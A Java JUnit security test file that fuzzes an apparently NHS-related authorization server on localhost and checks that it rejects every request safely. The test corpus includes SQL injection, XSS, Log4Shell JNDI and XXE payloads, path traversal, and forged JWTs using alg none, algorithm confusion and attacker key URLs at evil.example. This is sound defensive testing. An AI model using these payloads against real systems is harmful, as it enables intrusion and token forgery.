package care.concord.server.security;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.AppenderBase;
import care.concord.server.ConcordServerApplication;
import care.concord.server.TestOAuth;
import care.concord.server.audit.ChainVerifier;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.boot.context.TypeExcludeFilter;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.core.type.classreading.MetadataReader;
import org.springframework.core.type.classreading.MetadataReaderFactory;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.oauth2.jwt.JwsHeader;
import org.springframework.security.oauth2.jwt.JwtClaimsSet;
import org.springframework.security.oauth2.jwt.JwtEncoder;
import org.springframework.security.oauth2.jwt.JwtEncoderParameters;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The hostile-input suite (issue #12): starts Concord on a free port with its own
 * in-memory database and no {@code concord.issuer}, then sends a generated corpus over
 * raw sockets: every operation of {@code /v3/api-docs} and the OAuth, UMA, AuthZEN and
 * discovery endpoints, each with missing, garbage, forged (alg none, HS256, foreign
 * {@code jwk} header, tampered claims), expired and wrong-issuer tokens, and with
 * malformed and deeply nested JSON, wrong types, wildcard and wrong media types,
 * oversized bodies and headers, invalid UTF-8, NUL bytes, injection strings, bad NHS
 * numbers and dates. It asserts: no 5xx and no ERROR log line; no change to the service's
 * state (every table but the audit log, tokens and sign-in counters, compared before and
 * after each request) from any refused request; health still UP; the audit chain still
 * verifying; the issuer never taken from {@code Host}. The counts are printed and
 * recorded in docs/security.md.
 */
class HostileInputTests {

	private static final JsonMapper JSON = JsonMapper.builder().build();

	private static final String PASSWORD = "hostile-suite-password-1";

	private static final List<String> UNTRACKED = List.of("audit_record", "audit_chain_head", "oauth2_authorization",
			"oauth2_authorization_consent", "client_assertion_jti", "revoked_access_token", "flyway_schema_history",
			"identity_write_lock",
			// signed checkpoints of the audit chain head, written every second by each
			// node (durability)
			"audit_checkpoint");

	private static final List<String> UNTRACKED_COLUMNS = List.of("FAILED_LOGINS", "LOCKED_UNTIL");

	private static ConfigurableApplicationContext context;

	private static int port;

	private static String base;

	private static JdbcTemplate jdbc;

	private static final List<String> errorLogs = new CopyOnWriteArrayList<>();

	private static AppenderBase<ILoggingEvent> errorAppender;

	@BeforeAll
	static void start() throws Exception {
		try (ServerSocket socket = new ServerSocket(0)) {
			port = socket.getLocalPort();
		}
		base = "http://localhost:" + port;
		context = new SpringApplicationBuilder(ConcordServerApplication.class)
			// the test sources' @TestConfiguration (MockMvc fixtures) belong to the
			// cached MockMvc context, not here
			.initializers((initializing) -> initializing.getBeanFactory()
				.registerSingleton("excludeTestConfigurations", new TypeExcludeFilter() {
					@Override
					public boolean match(MetadataReader reader, MetadataReaderFactory factory) {
						return reader.getAnnotationMetadata().hasAnnotation(TestConfiguration.class.getName());
					}
				}))
			.run("--server.port=" + port,
					"--spring.datasource.url=jdbc:h2:mem:hostile-" + UUID.randomUUID()
							+ ";MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH;DB_CLOSE_DELAY=-1",
					"--concord.bootstrap-admin.username=hostile-admin",
					"--concord.bootstrap-admin.password=" + PASSWORD, "--concord.keys.rsa-key-size=2048",
					"--spring.jmx.enabled=false",
					// the administrator signs in with the password alone (the second
					// factor has its own tests)
					"--concord.second-factor.required-roles=", "--logging.level.root=WARN",
					"--logging.level.care.concord=WARN", "--logging.level.care.concord.security=ERROR",
					"--logging.level.org.springframework.security=ERROR", "--concord.audit.wait-timeout=5s");
		jdbc = new JdbcTemplate(context.getBean(javax.sql.DataSource.class));
		errorAppender = new AppenderBase<>() {
			@Override
			protected void append(ILoggingEvent event) {
				if (event.getLevel().isGreaterOrEqual(Level.ERROR)) {
					errorLogs.add(event.getLoggerName() + ": " + event.getFormattedMessage());
				}
			}
		};
		errorAppender.start();
		((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).addAppender(errorAppender);
	}

	@AfterAll
	static void stop() {
		if (errorAppender != null) {
			((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).detachAppender(errorAppender);
		}
		if (context != null) {
			context.close();
		}
	}

	@Test
	void corpusWhenSentThenNo5xxNoStateChangeFromRefusalsHealthUpAndChainVerifies() throws Exception {
		Fixtures fixtures = fixtures();
		List<Probe> corpus = new ArrayList<>();
		JsonNode openApi = JSON.readTree(get("/v3/api-docs", null).body());
		int operations = openApiProbes(openApi, fixtures, corpus);
		oauthProbes(fixtures, corpus);
		protocolProbes(corpus);
		assertThat(corpus.size()).as("generated requests").isGreaterThanOrEqualTo(1500);

		List<String> serverErrors = new ArrayList<>();
		List<String> stateChanges = new ArrayList<>();
		Map<Integer, Integer> statuses = new TreeMap<>();
		int refused = 0;
		long started = System.nanoTime();
		String before = fingerprint();
		for (Probe probe : corpus) {
			if (statuses.values().stream().mapToInt(Integer::intValue).sum() % 500 == 0) {
				System.out.printf("hostile suite: %d of %d sent, %d s%n",
						statuses.values().stream().mapToInt(Integer::intValue).sum(), corpus.size(),
						Duration.ofNanos(System.nanoTime() - started).toSeconds());
			}
			int status = send(probe);
			statuses.merge(status, 1, Integer::sum);
			String after = fingerprint();
			if (status >= 500 || status < 100) {
				serverErrors.add(status + " " + probe.describe());
			}
			if (status >= 400 && status < 500) {
				refused++;
				if (!after.equals(before)) {
					stateChanges.add(status + " " + probe.describe());
				}
			}
			before = after;
		}
		long seconds = Duration.ofNanos(System.nanoTime() - started).toSeconds();
		System.out.printf("hostile suite: %d requests (%d OpenAPI operations), %d refused (4xx), statuses %s, %d s%n",
				corpus.size(), operations, refused, statuses, seconds);

		assertThat(serverErrors).as("5xx or no answer").isEmpty();
		assertThat(stateChanges).as("state changed by a refused request").isEmpty();
		assertThat(errorLogs).as("ERROR log lines").isEmpty();
		assertThat(JSON.readTree(get("/actuator/health", null).body()).get("status").asString()).isEqualTo("UP");
		assertThat(context.getBean(ChainVerifier.class).verify().ok()).isTrue();
		// the issuer is never taken from the Host header (finding 7)
		Raw discovery = raw("GET", "/.well-known/openid-configuration", List.of("Host: evil.example"), null);
		assertThat(discovery.text()).contains("\"issuer\":\"" + base + "\"").doesNotContain("evil.example");
	}

	// ---------------------------------------------------------------- fixtures: real
	// accounts, clients, tokens

	record Fixtures(String admin, String citizen, String officer, String agencyToken, String clientId,
			String clientSecret, String nhsNumber, List<String> forged) {

		List<String> validTokens() {
			return List.of(this.admin, this.citizen, this.officer, this.agencyToken);
		}

	}

	private static Fixtures fixtures() throws Exception {
		String admin = personToken("hostile-admin");
		String code = "HS" + (100 + (int) (Math.random() * 800));
		Http created = post("/api/admin/agencies", admin,
				"{\"code\":\"" + code + "\",\"name\":\"Hostile\",\"org_type\":\"gp\"}");
		assertThat(created.status()).as(created.body()).isEqualTo(201);
		Http client = post("/api/admin/agencies/" + code + "/clients", admin,
				"{\"scopes\":[\"decision\",\"uma_protection\",\"uma_authorization\",\"identity\",\"record_location\"]}");
		assertThat(client.status()).as(client.body()).isEqualTo(201);
		JsonNode clientJson = JSON.readTree(client.body());
		String clientId = clientJson.get("client_id").asString();
		String secret = clientJson.get("client_secret").asString();
		String nhs = "9434765919";
		assertThat(
				post("/api/admin/people", admin,
						"{\"username\":\"hostile-citizen\",\"password\":\"" + PASSWORD
								+ "\",\"roles\":[\"citizen\"],\"nhs_number\":\"" + nhs + "\"}")
					.status())
			.isEqualTo(201);
		assertThat(post("/api/admin/people", admin,
				"{\"username\":\"hostile-officer\",\"password\":\"" + PASSWORD + "\",\"roles\":[\"ig-officer\"]}")
			.status()).isEqualTo(201);
		String citizen = personToken("hostile-citizen");
		String officer = personToken("hostile-officer");
		Http token = form("/oauth2/token", basic(clientId, secret), "grant_type=client_credentials&scope="
				+ URLEncoder.encode("decision uma_protection identity record_location", StandardCharsets.UTF_8));
		assertThat(token.status()).as(token.body()).isEqualTo(200);
		String agencyToken = JSON.readTree(token.body()).get("access_token").asString();
		return new Fixtures(admin, citizen, officer, agencyToken, clientId, secret, nhs, forged(citizen, admin));
	}

	/** Forged and unacceptable tokens: none of them may be accepted anywhere. */
	private static List<String> forged(String citizen, String admin) throws Exception {
		List<String> forged = new ArrayList<>();
		String[] parts = citizen.split("\\.");
		Map<String, Object> claims = TestOAuth.jwtClaims(citizen);
		// alg none with the citizen's claims promoted to admin
		Map<String, Object> promoted = new LinkedHashMap<>(claims);
		promoted.put("roles", List.of("admin"));
		String promotedPayload = b64(JSON.writeValueAsBytes(promoted));
		forged.add(b64("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "." + promotedPayload
				+ ".");
		// tampered claims under the original signature
		forged.add(parts[0] + "." + promotedPayload + "." + parts[2]);
		// HS256 keyed with the published RSA modulus (algorithm confusion)
		JsonNode jwks = JSON.readTree(get("/oauth2/jwks", null).body());
		byte[] modulus = jwks.get("keys").get(0).get("n").asString().getBytes(StandardCharsets.UTF_8);
		byte[] secret = MessageDigest.getInstance("SHA-256").digest(modulus);
		JWTClaimsSet set = JWTClaimsSet.parse(promoted);
		SignedJWT hs = new SignedJWT(
				new JWSHeader.Builder(JWSAlgorithm.HS256).keyID(jwks.get("keys").get(0).get("kid").asString()).build(),
				set);
		hs.sign(new MACSigner(secret));
		forged.add(hs.serialize());
		// signed by the attacker's key, announced in jwk / jku / x5u headers
		RSAKey attacker = new RSAKeyGenerator(2048).keyID("attacker").generate();
		for (int i = 0; i < 3; i++) {
			JWSHeader.Builder header = new JWSHeader.Builder(JWSAlgorithm.RS256).type(JOSEObjectType.JWT)
				.keyID("attacker");
			if (i == 0) {
				header.jwk(attacker.toPublicJWK());
			}
			else if (i == 1) {
				header.jwkURL(URI.create("https://evil.example/jwks.json"));
			}
			else {
				header.x509CertURL(URI.create("https://evil.example/cert.pem"));
			}
			SignedJWT jwt = new SignedJWT(header.build(), set);
			jwt.sign(new RSASSASigner(attacker));
			forged.add(jwt.serialize());
		}
		// Concord's own key, but expired, or naming another issuer
		JwtEncoder encoder = context.getBean(JwtEncoder.class);
		Map<String, Object> adminClaims = TestOAuth.jwtClaims(admin);
		for (int i = 0; i < 2; i++) {
			JwtClaimsSet.Builder builder = JwtClaimsSet.builder();
			adminClaims.forEach((name, value) -> {
				if (!List.of("iat", "exp", "nbf", "iss").contains(name)) {
					builder.claim(name, value);
				}
			});
			Instant now = Instant.now();
			builder.issuer((i == 0) ? base : "http://evil.example")
				.issuedAt(now.minusSeconds(7200))
				.expiresAt((i == 0) ? now.minusSeconds(3600) : now.plusSeconds(600));
			forged.add(encoder.encode(JwtEncoderParameters.from(
					JwsHeader.with(org.springframework.security.oauth2.jose.jws.SignatureAlgorithm.RS256).build(),
					builder.build()))
				.getTokenValue());
		}
		forged.add("garbage");
		forged.add("a.b.c");
		forged.add("x".repeat(20_000));
		return forged;
	}

	private static String personToken(String username) throws Exception {
		Http login = get("/login", null);
		Matcher csrf = Pattern.compile("name=\"_csrf\"[^>]*value=\"([^\"]+)\"|value=\"([^\"]+)\"[^>]*name=\"_csrf\"")
			.matcher(login.body());
		assertThat(csrf.find()).as("csrf token on the sign-in page").isTrue();
		String csrfToken = (csrf.group(1) != null) ? csrf.group(1) : csrf.group(2);
		Http signedIn = form("/login", null, "username=" + username + "&password=" + PASSWORD + "&_csrf="
				+ URLEncoder.encode(csrfToken, StandardCharsets.UTF_8));
		assertThat(signedIn.status()).isEqualTo(302);
		assertThat(signedIn.location()).doesNotContain("error");
		String verifier = UUID.randomUUID() + "-" + UUID.randomUUID();
		String redirect = base + "/console/callback";
		Http authorize = get("/oauth2/authorize?response_type=code&client_id=concord-console&scope=openid&state=s"
				+ "&redirect_uri=" + URLEncoder.encode(redirect, StandardCharsets.UTF_8) + "&code_challenge="
				+ TestOAuth.s256(verifier) + "&code_challenge_method=S256", null);
		assertThat(authorize.status()).as(authorize.body()).isEqualTo(302);
		Matcher code = Pattern.compile("[?&]code=([^&]+)").matcher(authorize.location());
		assertThat(code.find()).as(authorize.location()).isTrue();
		assertThat(authorize.location()).contains("iss=");
		Http token = form("/oauth2/token", null,
				"grant_type=authorization_code&client_id=concord-console&code=" + code.group(1) + "&redirect_uri="
						+ URLEncoder.encode(redirect, StandardCharsets.UTF_8) + "&code_verifier=" + verifier);
		assertThat(token.status()).as(token.body()).isEqualTo(200);
		COOKIES.getCookieStore().removeAll();
		return JSON.readTree(token.body()).get("access_token").asString();
	}

	// ---------------------------------------------------------------- corpus

	private static final List<String> PATH_VALUES = List.of("x", "0", "-1", "9434765918", "943476591",
			"../../etc/passwd", "%00", "%27%20OR%201%3D1--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "a".repeat(300),
			"%C3%28", "%FF%FE", "9434765919");

	private static final List<String> STRINGS = List.of("' OR 1=1--", "\"; DROP TABLE person; --",
			"<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd",
			"=cmd|' /C calc'!A0", "\u0000", "\uD83D\uDE00", "x".repeat(5000), "", " ", "9434765918", "0000000000",
			"2026-02-30", "1879-12-31", "9999-99-99", "-1", "null", "true");

	private static int openApiProbes(JsonNode openApi, Fixtures fixtures, List<Probe> corpus) {
		int operations = 0;
		Iterator<Map.Entry<String, JsonNode>> paths = openApi.get("paths").properties().iterator();
		int variant = 0;
		while (paths.hasNext()) {
			Map.Entry<String, JsonNode> path = paths.next();
			Iterator<Map.Entry<String, JsonNode>> methods = path.getValue().properties().iterator();
			while (methods.hasNext()) {
				Map.Entry<String, JsonNode> method = methods.next();
				String verb = method.getKey().toUpperCase();
				if (!List.of("GET", "POST", "PUT", "PATCH", "DELETE").contains(verb)) {
					continue;
				}
				operations++;
				boolean hasBody = method.getValue().has("requestBody");
				// unacceptable tokens (four per operation, in turn, so every one meets
				// every kind of operation), none
				for (int i = 0; i < 4; i++) {
					String token = fixtures.forged().get((operations * 4 + i) % fixtures.forged().size());
					corpus.add(new Probe(verb, path(path.getKey(), variant++), bearer(token),
							hasBody ? "application/json" : null,
							hasBody ? "{}".getBytes(StandardCharsets.UTF_8) : null));
				}
				corpus.add(new Probe(verb, path(path.getKey(), variant++), List.of(), null, null));
				// every real caller, with hostile paths and queries
				for (String token : fixtures.validTokens()) {
					corpus.add(
							new Probe(verb,
									path(path.getKey(), variant++) + "?page=-1&size=99999&from=2026-13-45&subject="
											+ PATH_VALUES.get(variant % PATH_VALUES.size()),
									bearer(token), null, null));
				}
				// every hostile body, each from one of the real callers in turn
				if (hasBody) {
					int caller = operations;
					for (Body body : bodies(variant)) {
						String token = fixtures.validTokens().get(caller++ % fixtures.validTokens().size());
						corpus.add(new Probe(verb, path(path.getKey(), variant++), bearer(token), body.type(),
								body.bytes()));
					}
				}
			}
		}
		return operations;
	}

	/**
	 * The path with its {parameters} replaced by hostile values (a known NHS number now
	 * and then).
	 */
	private static String path(String template, int variant) {
		StringBuilder out = new StringBuilder();
		Matcher parameter = Pattern.compile("\\{[^}]+}").matcher(template);
		int i = 0;
		while (parameter.find()) {
			parameter.appendReplacement(out,
					Matcher.quoteReplacement(PATH_VALUES.get((variant + i++) % PATH_VALUES.size())));
		}
		parameter.appendTail(out);
		return out.toString();
	}

	record Body(String type, byte[] bytes) {
	}

	private static List<Body> bodies(int variant) {
		List<Body> bodies = new ArrayList<>();
		String text = STRINGS.get(variant % STRINGS.size());
		String quoted = JSON.writeValueAsString(text);
		String json = "application/json";
		bodies.add(new Body(json, utf8("{")));
		bodies.add(new Body(json, utf8("[" + "[".repeat(5000) + "]".repeat(5000) + "]")));
		bodies.add(new Body(json, utf8("{\"a\":".repeat(2000) + "1" + "}".repeat(2000))));
		bodies.add(new Body(json, utf8("[]")));
		bodies.add(new Body(json, utf8("\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"")));
		bodies.add(new Body(json, utf8("12345678901234567890123456789")));
		bodies.add(new Body(json, utf8("null")));
		bodies.add(new Body(json, utf8("{\"effect\":" + quoted + ",\"national_data_opt_out\":-1,\"nhs_number\":"
				+ quoted + ",\"username\":" + quoted + ",\"code\":" + quoted + ",\"roles\":[" + quoted + "]}")));
		bodies.add(new Body(json, utf8("{\"unexpected_member\":true,\"effect\":\"permit\",\"effect\":\"deny\"}")));
		bodies.add(new Body(json,
				utf8("{\"subject\":{\"type\":\"patient\",\"id\":\"9434765918\"},\"resource\":{},"
						+ "\"action\":{\"name\":" + quoted
						+ "},\"date_of_birth\":\"2026-02-30\",\"valid_from\":\"yesterday\"}")));
		bodies.add(new Body(json,
				new byte[] { '{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}' }));
		bodies.add(new Body(json, utf8("{\"a\":\"\u0000\",\"b\u0000\":1}")));
		bodies.add(new Body(json, utf8("{\"pad\":\"" + "x".repeat(70_000) + "\"}")));
		bodies.add(new Body((variant % 2 == 0) ? "*/*" : "application/*", utf8("{}")));
		bodies.add(new Body("text/plain", utf8("{}")));
		bodies.add(new Body("application/xml",
				utf8("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")));
		bodies.add(new Body("application/json; charset=ebcdic", utf8("{}")));
		bodies.add(new Body("not a media type", utf8("{}")));
		bodies.add(new Body("application/fhir+json", utf8("{\"resourceType\":\"Consent\",\"status\":" + quoted + "}")));
		return bodies;
	}

	private static void oauthProbes(Fixtures f, List<Probe> corpus) {
		String form = "application/x-www-form-urlencoded";
		String good = basic(f.clientId(), f.clientSecret());
		List<String> forms = new ArrayList<>(List.of("", "grant_type=", "grant_type=password&username=a&password=b",
				"grant_type=client_credentials&scope=admin", "grant_type=client_credentials&scope=" + "x".repeat(5000),
				"grant_type=authorization_code&code=forged&code_verifier=x&redirect_uri=https%3A%2F%2Fevil.example",
				"grant_type=refresh_token&refresh_token=forged",
				"grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Auma-ticket&ticket=forged",
				"grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Auma-ticket&ticket=x&rpt=garbage&claim_token=e30&claim_token_format=x",
				"grant_type=client_credentials&grant_type=client_credentials", "token=%00%FF",
				"token=" + "a".repeat(9000), "token=garbage&token_type_hint=refresh_token", "grant_type=%C3%28",
				"client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer&client_assertion=a.b.c&grant_type=client_credentials",
				"client_id=" + f.clientId() + "&client_secret=wrong&grant_type=client_credentials",
				"client_id=" + f.clientId() + "&client_secret=" + f.clientSecret() + "&grant_type=client_credentials"));
		for (String token : f.forged()) {
			forms.add("token=" + URLEncoder.encode(token, StandardCharsets.UTF_8));
		}
		List<List<String>> credentials = List.of(List.of(), List.of("Authorization: " + good),
				List.of("Authorization: " + basic(f.clientId(), "wrong")), List.of("Authorization: Basic %%%"),
				List.of("Authorization: " + good, "Authorization: " + good),
				List.of("Authorization: Bearer " + f.agencyToken()),
				List.of("Authorization: " + basic("unknown-client", "x")));
		for (String endpoint : List.of("/oauth2/token", "/oauth2/introspect", "/oauth2/revoke")) {
			for (int c = 0; c < credentials.size(); c++) {
				List<String> credential = credentials.get(c);
				// every body without and with the right credentials, a few with each bad
				// one
				for (int b = 0; b < forms.size(); b++) {
					if (c < 2 || b % 10 == c) {
						corpus.add(new Probe("POST", endpoint, credential, form, utf8(forms.get(b))));
					}
				}
				corpus.add(new Probe("POST", endpoint, credential, "application/json",
						utf8("{\"grant_type\":\"client_credentials\"}")));
				corpus.add(new Probe("POST", endpoint, credential, "*/*", utf8("grant_type=client_credentials")));
				corpus.add(new Probe("GET", endpoint + "?grant_type=client_credentials", credential, null, null));
				corpus.add(new Probe("PUT", endpoint, credential, form, utf8("grant_type=client_credentials")));
			}
		}
		List<String> authorize = List.of("", "response_type=token&client_id=concord-console",
				"response_type=code&client_id=concord-console&redirect_uri=https%3A%2F%2Fevil.example%2Fcb",
				"response_type=code&client_id=concord-console&code_challenge_method=plain&code_challenge=x",
				"response_type=code&client_id=concord-console&prompt=none&redirect_uri="
						+ URLEncoder.encode(base + "/console/callback", StandardCharsets.UTF_8) + "&code_challenge="
						+ "a".repeat(43) + "&code_challenge_method=S256",
				"response_type=code&client_id=%00", "response_type=code&client_id=" + "a".repeat(3000),
				"response_type=code&client_id=unknown&redirect_uri=javascript%3Aalert(1)",
				"response_type=code&response_type=code&client_id=concord-console",
				"request=a.b.c&client_id=concord-console",
				"response_type=code&client_id=concord-console&scope=openid%20admin&state=%3Cscript%3E");
		for (String query : authorize) {
			corpus.add(new Probe("GET", "/oauth2/authorize?" + query, List.of(), null, null));
			corpus.add(new Probe("POST", "/oauth2/authorize", List.of(), form, utf8(query)));
		}
		for (String path : List.of("/userinfo", "/connect/register", "/oauth2/jwks",
				"/.well-known/openid-configuration", "/.well-known/oauth-authorization-server",
				"/.well-known/uma2-configuration", "/connect/logout", "/oauth2/par", "/oauth2/device_authorization",
				"/.well-known/../actuator/env", "/error", "/error/x", "/actuator/prometheus", "/actuator/env",
				"/actuator/heapdump", "/login", "/console/../../etc/passwd", "/v3/api-docs/%00", "/swagger-ui.html")) {
			for (String method : List.of("GET", "POST", "PUT", "DELETE")) {
				corpus.add(new Probe(method, path, List.of(), form, utf8("a=b")));
			}
			for (int i = 0; i < 3; i++) {
				corpus.add(new Probe("GET", path, bearer(f.forged().get((path.length() + i) % f.forged().size())), null,
						null));
			}
		}
		for (String body : List.of("username=hostile-admin&password=wrong", "username=%00&password=%00",
				"username=" + "a".repeat(5000) + "&password=x", "username=' OR 1=1--&password=x", "")) {
			corpus.add(new Probe("POST", "/login", List.of(), form, utf8(body)));
		}
	}

	/**
	 * Abuse of HTTP itself: oversized headers, invalid bytes in the request line, odd
	 * methods and headers.
	 */
	private static void protocolProbes(List<Probe> corpus) {
		for (String path : List.of("/api/me/directives", "/oauth2/token", "/access/v1/evaluation",
				"/uma/resource_set")) {
			corpus.add(new Probe("GET", path, List.of("X-Big: " + "a".repeat(20_000)), null, null));
			corpus.add(new Probe("GET", path, List.of("Authorization: Bearer " + "a".repeat(12_000)), null, null));
			corpus.add(new Probe("GET", path + "?q=%00%0D%0ASet-Cookie:%20x=y", List.of(), null, null));
			corpus.add(new Probe("GET", path + "/%2e%2e/%2e%2e/", List.of(), null, null));
			corpus.add(new Probe("FOO", path, List.of(), null, null));
			corpus.add(new Probe("TRACE", path, List.of(), null, null));
			corpus.add(new Probe("OPTIONS", path,
					List.of("Origin: https://evil.example", "Access-Control-Request-Method: POST"), null, null));
			corpus.add(new Probe("POST", path, List.of("Content-Length: 999999999"), "application/json", utf8("{}")));
			corpus.add(new Probe("POST", path, List.of("X-Forwarded-Host: evil.example", "X-Forwarded-Proto: gopher"),
					"application/json", utf8("{}")));
			corpus.add(new Probe("GET", path, List.of("Accept: application/xml"), null, null));
			corpus.add(new Probe("GET", path, List.of("Accept: */*;q=nonsense"), null, null));
			corpus.add(new Probe("GET", path, List.of("Content-Type: */*"), null, null));
		}
	}

	// ---------------------------------------------------------------- transport

	record Probe(String method, String target, List<String> headers, String contentType, byte[] body) {

		String describe() {
			String shown = (this.target.length() > 120) ? this.target.substring(0, 120) + "..." : this.target;
			String headersShown = this.headers.stream()
				.map((h) -> (h.length() > 60) ? h.substring(0, 60) + "..." : h)
				.toList()
				.toString();
			String bodyShown = (this.body == null) ? ""
					: new String(this.body, 0, Math.min(this.body.length, 100), StandardCharsets.UTF_8);
			return this.method + " " + shown + " " + headersShown + " " + this.contentType + " " + bodyShown;
		}

	}

	private static List<String> bearer(String token) {
		return List.of("Authorization: Bearer " + token);
	}

	private static int send(Probe probe) throws IOException {
		List<String> headers = new ArrayList<>(probe.headers());
		if (probe.contentType() != null) {
			headers.add("Content-Type: " + probe.contentType());
		}
		return raw(probe.method(), probe.target(), headers, probe.body()).status();
	}

	record Raw(int status, byte[] bytes) {

		String text() {
			return new String(this.bytes, StandardCharsets.UTF_8);
		}

	}

	/**
	 * One request on its own connection, bytes exactly as given (java.net.http refuses
	 * most of this corpus).
	 */
	private static Raw raw(String method, String target, List<String> headers, byte[] body) throws IOException {
		try (Socket socket = new Socket("127.0.0.1", port)) {
			socket.setSoTimeout(15_000);
			ByteArrayOutputStream request = new ByteArrayOutputStream();
			request.write((method + " " + target + " HTTP/1.1\r\n").getBytes(StandardCharsets.UTF_8));
			boolean host = headers.stream().anyMatch((h) -> h.regionMatches(true, 0, "Host:", 0, 5));
			if (!host) {
				request.write(("Host: localhost:" + port + "\r\n").getBytes(StandardCharsets.UTF_8));
			}
			boolean length = headers.stream().anyMatch((h) -> h.regionMatches(true, 0, "Content-Length:", 0, 15));
			for (String header : headers) {
				request.write((header + "\r\n").getBytes(StandardCharsets.UTF_8));
			}
			if (body != null && !length) {
				request.write(("Content-Length: " + body.length + "\r\n").getBytes(StandardCharsets.UTF_8));
			}
			request.write("Connection: close\r\n\r\n".getBytes(StandardCharsets.UTF_8));
			if (body != null) {
				request.write(body);
			}
			OutputStream out = socket.getOutputStream();
			try {
				out.write(request.toByteArray());
				out.flush();
			}
			catch (IOException ex) {
				// the server may answer and close before reading an oversized request:
				// read what it said
			}
			InputStream in = socket.getInputStream();
			ByteArrayOutputStream response = new ByteArrayOutputStream();
			byte[] buffer = new byte[8192];
			try {
				for (int n; !complete(response.toByteArray()) && (n = in.read(buffer)) > 0;) {
					response.write(buffer, 0, n);
				}
			}
			catch (IOException ex) {
				// connection reset (or the server still waiting for a body it was
				// promised) after the answer
			}
			byte[] bytes = response.toByteArray();
			String head = new String(bytes, 0, Math.min(bytes.length, 64), StandardCharsets.ISO_8859_1);
			Matcher status = Pattern.compile("^HTTP/1\\.[01] (\\d{3})").matcher(head);
			return new Raw(status.find() ? Integer.parseInt(status.group(1)) : 0, bytes);
		}
	}

	/**
	 * True once the whole answer is in (headers, then Content-Length bytes or the last
	 * chunk): the server may keep the connection open to drain a body a probe promised
	 * but never sent.
	 */
	private static boolean complete(byte[] bytes) {
		String text = new String(bytes, StandardCharsets.ISO_8859_1);
		int end = text.indexOf("\r\n\r\n");
		if (end < 0) {
			return false;
		}
		String head = text.substring(0, end).toLowerCase();
		Matcher length = Pattern.compile("\r\ncontent-length: *(\\d+)").matcher(head);
		if (length.find()) {
			return bytes.length - (end + 4) >= Long.parseLong(length.group(1));
		}
		if (head.contains("transfer-encoding: chunked")) {
			return text.endsWith("0\r\n\r\n");
		}
		return head.startsWith("http/1.1 1") || head.startsWith("http/1.1 204") || head.startsWith("http/1.1 304");
	}

	/**
	 * Every tracked table's rows (sign-in counters left out), hashed: equal before and
	 * after = no state change.
	 */
	private static String fingerprint() throws Exception {
		MessageDigest digest = MessageDigest.getInstance("SHA-256");
		List<String> tables = jdbc.queryForList(
				"SELECT table_name FROM information_schema.tables "
						+ "WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY table_name",
				String.class);
		for (String table : tables) {
			if (UNTRACKED.contains(table.toLowerCase())) {
				continue;
			}
			List<String> rows = new ArrayList<>();
			jdbc.query("SELECT * FROM " + table, (row) -> {
				StringBuilder line = new StringBuilder();
				var meta = row.getMetaData();
				for (int c = 1; c <= meta.getColumnCount(); c++) {
					if (!UNTRACKED_COLUMNS.contains(meta.getColumnName(c).toUpperCase())) {
						line.append(row.getString(c)).append('\u0001');
					}
				}
				rows.add(line.toString());
			});
			rows.sort(null);
			digest.update(table.getBytes(StandardCharsets.UTF_8));
			rows.forEach((line) -> digest.update(line.getBytes(StandardCharsets.UTF_8)));
		}
		return Base64.getEncoder().encodeToString(digest.digest());
	}

	record Http(int status, String body, String location) {
	}

	private static final java.net.CookieManager COOKIES = new java.net.CookieManager();

	private static final HttpClient BROWSER = HttpClient.newBuilder()
		.followRedirects(HttpClient.Redirect.NEVER)
		.cookieHandler(COOKIES)
		.connectTimeout(Duration.ofSeconds(10))
		.build();

	private static Http get(String path, String bearer) throws Exception {
		HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base + path))
			.timeout(Duration.ofSeconds(60))
			.GET();
		if (bearer != null) {
			request.header("Authorization", "Bearer " + bearer);
		}
		return http(request.build());
	}

	private static Http post(String path, String bearer, String json) throws Exception {
		return http(HttpRequest.newBuilder(URI.create(base + path))
			.timeout(Duration.ofSeconds(60))
